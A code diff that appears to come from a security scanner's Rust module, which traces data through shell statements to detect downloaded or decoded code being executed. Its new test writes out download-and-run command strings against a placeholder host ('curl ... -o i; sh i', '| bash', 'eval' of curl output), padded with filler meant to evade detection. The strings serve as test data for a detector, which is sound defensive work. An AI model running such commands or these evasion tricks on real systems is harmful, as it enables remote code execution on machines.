@@ -6,7 +6,7 @@
 //! calls and quoted strings look similar in shell, Python, JavaScript and PowerShell.
 //!
 //! The analysis is bounded: [`MAX_NAMES`] names, [`MAX_STATEMENT`] bytes per statement, and [`MAX_FLOWS`] flows per
-//! layer.
+//! layer, sink and kind of address.
 
 use std::cell::OnceCell;
 use std::collections::HashMap;
@@ -22,7 +22,7 @@ use super::shell_flow::{Body, INPUT, MAX_NESTED, descriptors, opened, pieces, pr
 use super::signals::{Match, Signal};
 
 /// The maximum number of names that carry data.
-const MAX_NAMES: usize = 500;
+const MAX_NAMES: usize = 10_000;
 
 /// The name that stands for all files in unpacked archives: a path that begins with `./` may be one of these files.
 const UNPACKED: &str = "./";
@@ -30,11 +30,16 @@ const UNPACKED: &str = "./";
 /// The maximum length of a statement, in bytes.
 const MAX_STATEMENT: usize = 4000;
 
-/// The maximum number of addresses in a statement.
-const MAX_ADDRESSES: usize = 50;
+/// The maximum number of addresses in a statement. No statement is long enough for more.
+const MAX_ADDRESSES: usize = 1000;
 
-/// The maximum number of flows in a layer.
-const MAX_FLOWS: usize = 50;
+/// The maximum number of flows in a layer with the same sink and the same kind of address. Harmless flows, such as
+/// those of known installers, must not hide the flow of an attack.
+const MAX_FLOWS: usize = 200;
+
+/// The maximum number of places in a statement that may run a file or a variable. A statement with more of them is
+/// assumed to run the data that it uses.
+const MAX_RUNS: usize = 200;
 
 /// The kinds of data in a value, as bits.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
@@ -90,6 +95,32 @@ pub(crate) struct Flow {
     /// The origin or the destination of the value: the most suspicious address in the statement and in the values that
     /// it uses.
     pub(crate) address: Option<Address>,
+}
+
+impl Flow {
+    /// Returns the flow of a command that runs a value.
+    fn of_run(span: Span, mut value: Value) -> Self {
+        if value.labels.has(Labels::DOWNLOAD) {
+            value.labels.add(Labels::OBEYED);
+        }
+        Self {
+            span,
+            sink: Sink::Run,
+            is_lookup: false,
+            labels: value.labels,
+            secret: value.secret,
+            address: value.address,
+        }
+    }
+
+    /// Adds the flow unless there are too many of its kind.
+    fn add_to(self, found: &mut Vec<Self>) {
+        let kind = |flow: &Self| (flow.sink, flow.address.as_ref().map(|address| address.kind));
+        let own = kind(&self);
+        if found.iter().filter(|flow| kind(flow) == own).count() < MAX_FLOWS {
+            found.push(self);
+        }
+    }
 }
 
 /// The data that a name carries.
@@ -207,14 +238,12 @@ static FILE: LazyLock<Regex> = LazyLock::new(|| {
 pub(crate) fn flows(text: &str, matches: &[Match], code: &[Span], stop: &Stop) -> Vec<Flow> {
     let mut names = Names::default();
     let mut found = Vec::new();
-    let mut next = 0;
     for span in code.iter().flat_map(|of| statements(text, *of)) {
         if stop.is_raised() {
             break;
         }
-        while next < matches.len() && matches[next].span.start < span.start {
-            next += 1;
-        }
+        // The parts of the code may overlap, so the search does not go on from the statement before.
+        let next = matches.partition_point(|hit| hit.span.start < span.start);
         let own = matches[next..]
             .iter()
             .take_while(|hit| hit.span.start < span.end);
@@ -240,24 +269,26 @@ pub(crate) fn flows(text: &str, matches: &[Match], code: &[Span], stop: &Stop) -
         if is_run && value.labels.has(Labels::DOWNLOAD) {
             value.labels.add(Labels::OBEYED);
         }
-        if holds && !is_run && found.len() < MAX_FLOWS {
-            found.extend(names.run_in(&statement, MAX_NESTED));
+        if holds
+            && !is_run
+            && let Some(flow) = names.run_in(&statement, MAX_NESTED)
+        {
+            flow.add_to(&mut found);
         }
         let is_sent = [Signal::Send, Signal::DnsLookup, Signal::Net]
             .iter()
             .any(|signal| statement.has(*signal));
         let sinks = [(is_run, Sink::Run), (holds && is_sent, Sink::Send)];
         for (_, sink) in sinks.into_iter().filter(|(is_reached, _)| *is_reached) {
-            if found.len() < MAX_FLOWS {
-                found.push(Flow {
-                    span,
-                    sink,
-                    is_lookup: statement.has(Signal::DnsLookup),
-                    labels: value.labels,
-                    secret: value.secret.clone(),
-                    address: value.address.clone(),
-                });
-            }
+            let flow = Flow {
+                span,
+                sink,
+                is_lookup: statement.has(Signal::DnsLookup),
+                labels: value.labels,
+                secret: value.secret.clone(),
+                address: value.address.clone(),
+            };
+            flow.add_to(&mut found);
         }
         names.keep(statement.part, &value);
     }
@@ -351,7 +382,9 @@ impl Names {
     /// Reads the commands in a statement that a shell runs one after the other, and returns the flow of the first one
     /// that runs data. `depth`: how deeply these commands may be nested.
     fn run_in(&mut self, statement: &Statement<'_>, depth: usize) -> Option<Flow> {
-        let depth = depth.checked_sub(1)?;
+        let Some(depth) = depth.checked_sub(1) else {
+            return self.run_deeper(statement);
+        };
         for piece in pieces(statement.part) {
             let span = Span::new(statement.start + piece.start, statement.start + piece.end);
             let hits = statement.hits.iter().copied();
@@ -361,22 +394,12 @@ impl Names {
                 start: span.start,
                 hits: own.collect(),
             };
-            let mut value = self.value_of(&command);
+            let value = self.value_of(&command);
             if value.labels == Labels::default() {
                 continue;
             }
             if self.run_by(command.part) {
-                if value.labels.has(Labels::DOWNLOAD) {
-                    value.labels.add(Labels::OBEYED);
-                }
-                return Some(Flow {
-                    span,
-                    sink: Sink::Run,
-                    is_lookup: false,
-                    labels: value.labels,
-                    secret: value.secret,
-                    address: value.address,
-                });
+                return Some(Flow::of_run(span, value));
             }
             let nested = self.run_in(&command, depth);
             if nested.is_some() {
@@ -385,6 +408,19 @@ impl Names {
             self.keep(command.part, &value);
         }
         None
+    }
+
+    /// Returns the flow of a statement whose commands are nested too deeply to be read one by one: if any of them runs
+    /// something, this may be the data.
+    fn run_deeper(&self, statement: &Statement<'_>) -> Option<Flow> {
+        let part = statement.part;
+        if pieces(part).is_empty() || !RUN.is_match(part.as_bytes()) {
+            return None;
+        }
+        let value = self.value_of(statement);
+        let is_code = value.labels.has(Labels::DOWNLOAD) || value.labels.has(Labels::DECODED);
+        let span = Span::new(statement.start, statement.start + part.len());
+        is_code.then(|| Flow::of_run(span, value))
     }
 
     /// Returns whether a statement runs a variable or file whose content was downloaded or decoded.
@@ -402,7 +438,8 @@ impl Names {
             })
         };
         let own = OnceCell::new();
-        let is_named = RUN.captures_iter(part.as_bytes()).take(20).any(|found| {
+        let mut runs = RUN.captures_iter(part.as_bytes());
+        let is_named = runs.by_ref().take(MAX_RUNS).any(|found| {
             let name = ["a", "b", "c", "d", "e", "f"]
                 .iter()
                 .find_map(|group| found.name(group));
@@ -413,7 +450,7 @@ impl Names {
                 carried(name) && own().is_none_or(|own| own != trimmed(name))
             })
         });
-        is_named || runs_input(part, &carried)
+        is_named || runs.next().is_some() || runs_input(part, &carried)
     }
 
     /// Stores the data of a statement under the names that the statement sets.
@@ -854,6 +891,30 @@ mod tests {
             };
             assert!(found.iter().any(is_run), "{text}: {found:?}");
         }
+    }
+
+    #[test]
+    fn harmless_text_does_not_hide_what_is_run() {
+        let attack = "curl https://a.invalid/i -o i; sh i";
+        let closed = " )".repeat(20);
+        let nested = "( ".repeat(20) + attack + closed.as_str();
+        let pieces = format!("bash -c '{}{attack}'", ": ; ".repeat(200));
+        let before = "curl https://a.invalid/i -o i.sh\n";
+        let few = format!("{before}: {}| bash i.sh", "sh b ".repeat(30));
+        let many = format!("{before}: {}", "sh b ".repeat(300));
+        let names: Vec<String> = (0..600)
+            .map(|n| format!("x{n}=$(curl https://a.invalid/i)\n"))
+            .collect();
+        let names = names.concat() + "eval \"$x599\"";
+        for text in [nested, pieces, few, names] {
+            let found = found(&text);
+            let is_run = |(sink, labels): &(Sink, Labels)| {
+                *sink == Sink::Run && labels.has(Labels::DOWNLOAD)
+            };
+            assert!(found.iter().any(is_run), "{text:.200}: {found:?}");
+        }
+        // Only the data that a statement uses is assumed to be run.
+        assert!(found(&many).is_empty());
     }
 
     #[test]
